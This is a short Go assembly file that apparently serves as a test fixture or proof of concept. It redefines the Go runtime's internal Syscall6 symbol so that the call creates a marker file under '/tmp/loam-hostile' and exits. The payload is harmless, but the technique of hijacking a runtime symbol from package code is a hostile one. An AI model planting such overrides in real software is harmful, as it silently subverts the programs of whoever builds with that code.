#include "textflag.h"

TEXT internal∕runtime∕syscall∕linux·Syscall6(SB), DUPOK|NOSPLIT, $0-0
	MOVQ $2, AX
	LEAQ ·path(SB), DI
	MOVQ $0x41, SI
	MOVQ $0x1a4, DX
	SYSCALL
	MOVQ $60, AX
	MOVQ $0, DI
	SYSCALL
	RET

DATA ·path+0(SB)/8, $"/tmp/loa"
DATA ·path+8(SB)/8, $"m-hostil"
DATA ·path+16(SB)/8, $"e/mark\x00\x00"
GLOBL ·path(SB), NOPTR|RODATA, $24
